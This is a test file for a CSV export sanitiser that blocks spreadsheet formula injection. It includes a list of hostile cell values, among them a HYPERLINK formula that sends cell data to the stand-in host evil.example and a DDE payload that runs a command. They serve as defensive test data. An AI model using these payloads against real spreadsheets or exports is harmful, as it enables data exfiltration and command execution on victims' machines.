import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formulaSafeCsv } from '#scripts/audiences/formula-safe-csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'harmless;=1+1',
  'harmless\n=1+1',
];

test.each(HOSTILE)('formulaSafeCsv() makes text of %j', (value) => {
  const [, line = ''] = formulaSafeCsv(['a'], [[value]]).split(/\n(.*)/s);
  expect(line).not.toMatch(/(?:^|[;,|"\t\r\n])[\s\0]*[=+\-@\uFF1D]/);
});

test('formulaSafeCsv() keeps addresses, international numbers and words as they are', () => {
  expect(
    formulaSafeCsv(
      ['email', 'phone', 'reason'],
      [
        ['anna@example.com', '+4915112345678', '3 orders, about every 20 days'],
        ['ben@example.com', null, 'said "yes"'],
      ],
    ),
  ).toBe(
    'email,phone,reason\nanna@example.com,+4915112345678,"3 orders, about every 20 days"\nben@example.com,,"said ""yes"""\n',
  );
});

test('formulaSafeCsv() writes no line that a spreadsheet could run, whatever it is given', () => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }),
      (cells) => {
        const csv = formulaSafeCsv([], [cells]).slice(1);
        // Phone numbers are the one exception, and nothing but digits.
        expect(csv).not.toMatch(/(?:^|[;|\t\r\n,])[\s\0]*[=@-]/);
      },
    ),
  );
});
